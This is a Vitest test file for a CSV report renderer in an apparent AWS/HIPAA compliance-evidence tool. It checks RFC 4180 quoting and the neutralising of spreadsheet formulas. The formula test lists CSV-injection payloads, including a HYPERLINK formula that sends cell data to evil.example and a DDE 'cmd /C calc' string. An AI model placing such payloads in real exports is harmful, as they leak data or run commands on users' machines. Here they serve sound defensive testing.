import { describe, expect, it } from 'vitest';
import { verificationProblem } from '../../lib/evidence/verification-codes.ts';
import { CSV_COLUMNS, csvCell, renderCsv } from '../../lib/report/csv.ts';
import { buildReportModel } from '../../lib/report/model.ts';
import { CHECKS, makeRecord } from '../fixtures/report/records.ts';

/** A strict RFC 4180 reader, so the test checks what a spreadsheet would actually see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"') {
      i += 1;
      while (i < text.length && !(text[i] === '"' && text[i + 1] !== '"')) {
        cell += text[i];
        i += text[i] === '"' ? 2 : 1;
      }
      i += 1;
    } else if (text[i] === ',') {
      row.push(cell);
      cell = '';
      i += 1;
    } else if (text.startsWith('\r\n', i)) {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 2;
    } else {
      cell += text[i];
      i += 1;
    }
  }
  if (cell !== '' || row.length > 0) throw new Error('CSV does not end with CRLF');
  return rows;
}

const OPTIONS = { generatedAt: '2026-04-01T00:00:00Z', checks: CHECKS };

describe('renderCsv', () => {
  it('writes a header and one row per record with every column', () => {
    // Prepare
    const record = makeRecord({ seed: 'a', check: 'iam-user-console-mfa', resourceId: 'alice', result: 'fail' });
    const model = buildReportModel([{ key: 'records/v1/k.json', record }], new Map([[record.id, { ok: true, errors: [] }]]), OPTIONS);

    // Act
    const rows = parseCsv(renderCsv(model));

    // Assess
    expect(rows).toHaveLength(2);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const row = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, rows[1]![i]]));
    expect(row).toMatchObject({
      id: record.id,
      check: 'iam-user-console-mfa',
      family: 'mfa',
      severity: 'high',
      result: 'fail',
      resourceType: 'AWS::IAM::User',
      resourceId: 'alice',
      resourceArn: 'arn:aws:iam::111122223333:user/alice',
      phiScoped: 'true',
      account: '111122223333',
      region: 'us-east-1',
      observedAt: record.observedAt,
      collectedAt: record.collectedAt,
      triggerSource: 'cloudtrail',
      triggerEventName: 'AuthorizeSecurityGroupIngress',
      triggerActor: 'arn:aws:iam::111122223333:user/alice',
      triggerSourceIp: '203.0.113.7',
      triggerMfaAuthenticated: 'false',
      hipaa: '164.312(d)',
      // The fixture's bare 164.312(f) (older metadata) is no paragraph the citation table confirms.
      hipaaProposed: '164.312(f) (unconfirmed)',
      integrity: 'verified',
      integrityErrors: '',
      key: 'records/v1/k.json',
    });
  });

  it('quotes commas, quotes and line breaks so the text survives a round trip', () => {
    const reason = 'sg-1 allows "0.0.0.0/0",\r\non tcp/22\nand tcp/3389';
    const record = makeRecord({ seed: 'q', reason });
    const errors = [verificationProblem('LEAF_HASH_MISMATCH', { document: 'record' }), verificationProblem('SIGNATURE_INVALID', { keyId: 'sha256:abc' })];
    const model = buildReportModel([record], new Map([[record.id, { ok: false, errors }]]), OPTIONS);

    const text = renderCsv(model);
    const rows = parseCsv(text);

    expect(rows[1]![CSV_COLUMNS.indexOf('reason')]).toBe(reason);
    expect(rows[1]![CSV_COLUMNS.indexOf('integrity')]).toBe('failed');
    expect(rows[1]![CSV_COLUMNS.indexOf('integrityErrors')]).toMatch(/^.* \[LEAF_HASH_MISMATCH\]; .* \[SIGNATURE_INVALID\]$/);
    expect(text).toContain('"sg-1 allows ""0.0.0.0/0"",\r\non tcp/22\nand tcp/3389"');
  });

  it('defuses cells a spreadsheet would run as a formula', () => {
    const attacks = ['=HYPERLINK("http://evil.example/?x="&A1)', '+cmd|" /C calc"!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1'];
    const records = attacks.map((resourceId, i) => makeRecord({ seed: `inj${i}`, resourceId, actor: attacks[i], observedAt: `2026-03-0${i + 1}T00:00:00Z` }));
    const model = buildReportModel(records, new Map(), OPTIONS);

    const rows = parseCsv(renderCsv(model)).slice(1);

    const resourceIds = rows.map((r) => r[CSV_COLUMNS.indexOf('resourceId')]!);
    const actors = rows.map((r) => r[CSV_COLUMNS.indexOf('triggerActor')]!);
    for (const cell of [...resourceIds, ...actors]) expect(cell).toMatch(/^'/);
    // A lone CR is also shown escaped: printed with cat, it would overwrite the line.
    expect(resourceIds.toReversed()).toEqual(attacks.map((a) => `'${a.replace('\r', '\\u000d')}`));
  });

  it('leaves ordinary cells alone and writes nothing for an absent value', () => {
    expect(csvCell('sg-0abc')).toBe('sg-0abc');
    expect(csvCell('164.312(a)(1); 164.312(e)(1)')).toBe('164.312(a)(1); 164.312(e)(1)');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(false)).toBe('false');
  });

  it('writes only the header for an empty period', () => {
    expect(renderCsv(buildReportModel([], new Map(), OPTIONS))).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
  });
});
